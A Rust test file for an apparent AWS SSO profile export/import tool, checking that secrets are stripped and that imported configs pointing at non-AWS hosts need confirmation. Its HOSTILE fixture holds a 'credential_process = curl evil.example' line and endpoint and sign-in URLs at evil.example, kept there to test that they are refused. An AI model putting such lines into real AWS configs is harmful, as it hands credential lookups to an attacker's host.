//! Sessions and profiles that one person hands to another.

use std::{fs, io::Write as _, process::Stdio};

use crate::scene::Scene;

const CONFIG: &str = "\
[sso-session acme]
sso_start_url = https://acme.awsapps.com/start
sso_region = eu-west-1

[profile dev]
sso_session = acme
sso_account_id = 111122223333
sso_role_name = AdministratorAccess
region = eu-central-1

[profile keys]
aws_access_key_id = AKIAEXAMPLE
aws_secret_access_key = SECRET
";

/// What nobody should take over from anybody.
const HOSTILE: &str = "\
[sso-session corp]
sso_start_url = https://sso.evil.example/start
sso_region = eu-west-1
[profile corp]
sso_session = corp
sso_account_id = 111122223333
sso_role_name = Admin
credential_process = curl evil.example
endpoint_url = https://evil.example
[profile run]
credential_process = curl evil.example
";

fn told(scene: &Scene, runs: &[&[&str]]) -> String {
    runs.iter().map(|arguments| scene.tell(arguments)).collect::<Vec<_>>().join("\n")
}

fn config(scene: &Scene) -> String {
    fs::read_to_string(scene.home().join(".aws/config")).unwrap()
}

/// A file in the scene's home.
fn file(scene: &Scene, content: &str) -> String {
    let file = scene.home().join("shared.conf");
    fs::write(&file, content).unwrap();
    file.to_str().unwrap().to_owned()
}

fn masked(scene: &Scene, told: &str) -> String {
    told.replace(scene.home().to_str().unwrap(), "~")
}

#[test]
fn what_one_exports_another_imports_without_secrets() {
    let one = Scene::new(CONFIG);
    let file = one.home().join("acme.conf");
    let name = file.to_str().unwrap();
    let exported = told(&one, &[&["export"], &["export", name], &["export", name]]);
    assert_eq!(one.run(&["export", "-"]).stdout, one.run(&["export"]).stdout);
    let another = Scene::new("# mine\n");
    let runs: [&[&str]; 4] =
        [&["import", name, "--dry-run"], &["import", name], &["import", name], &["list"]];
    let imported = told(&another, &runs);
    insta::assert_snapshot!(masked(&one, &format!("{exported}\n--- another person\n{imported}")));
    assert!(!fs::read_to_string(file).unwrap().contains("SECRET"));
    assert_eq!(another.run(&["profile", "--undo"]).status.code(), Some(0));
    assert_eq!(config(&another), "# mine\n");
}

#[test]
fn what_comes_in_by_standard_input_is_taken_too() {
    let scene = Scene::new("");
    let mut import = scene.command(["import", "-"]).stdin(Stdio::piped()).spawn().unwrap();
    import.stdin.take().unwrap().write_all(CONFIG.as_bytes()).unwrap();
    assert_eq!(import.wait_with_output().unwrap().status.code(), Some(0));
    assert!(config(&scene).contains("[profile dev]"));
}

#[test]
fn a_host_that_is_not_aws_s_is_taken_at_a_word_only() {
    let scene = Scene::new("");
    let file = file(&scene, HOSTILE);
    let runs: [&[&str]; 5] = [
        &["import", &file],
        &["import", &file, "--yes"],
        &["import", &file, "--dry-run", "--allow-host", "evil.example"],
        &["import", &file, "--allow-host", "sso.evil.example"],
        &["list"],
    ];
    insta::assert_snapshot!(masked(&scene, &told(&scene, &runs)));
    assert!(!config(&scene).contains("curl") && !config(&scene).contains("endpoint_url"));
}

#[test]
fn at_a_terminal_each_such_host_is_asked_about_and_enter_is_no() {
    let scene = Scene::new("");
    let file = file(&scene, HOSTILE);
    for answer in ["\n", "n\n", "yes?\n", ""] {
        let mut asked = scene.at_terminal(&format!("import {file} --yes"), answer);
        asked.says("One would sign in at sso.evil.example, which is not AWS's.");
        asked.says("Nothing was changed.");
        assert_eq!(asked.ends(), Some(5), "{answer:?}");
    }
    let mut trusted = scene.at_terminal(&format!("import {file}"), "y\ny\n");
    trusted.says("+[sso-session corp]");
    trusted.says("Added 2 sections.");
    assert_eq!(trusted.ends(), Some(0));
}

#[test]
fn what_tools_use_unasked_is_left_and_scopes_beyond_the_usual_are_told() {
    let scene = Scene::new("");
    let role = "sso_session = acme\nsso_account_id = 111122223333\nsso_role_name = Admin\n";
    let scoped =
        CONFIG.replace("eu-west-1\n", "eu-west-1\nsso_registration_scopes = sso:account:access,q:chat\n");
    let file = file(&scene, &format!("{scoped}\n[default]\n{role}"));
    let output = scene.run(&["import", &file]);
    let told = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(0), "{told}");
    assert!(told.contains("shared.conf:16: [default] is not taken over"), "{told}");
    assert!(told.contains("“acme” ask for more than your accounts and roles: q:chat"), "{told}");
    assert!(told.contains("To undo this: daypass session --undo"), "{told}");
    assert!(!config(&scene).contains("[default]"));
}

#[test]
fn what_is_there_under_the_same_name_stays() {
    let mine = CONFIG.replace("acme.awsapps", "mine.awsapps");
    let scene = Scene::new(&mine);
    let file = file(&scene, CONFIG);
    let runs: [&[&str]; 3] = [&["import", &file], &["import", "nowhere"], &["import", "/dev/null"]];
    insta::assert_snapshot!(masked(&scene, &told(&scene, &runs)));
    assert_eq!(config(&scene), mine);
}
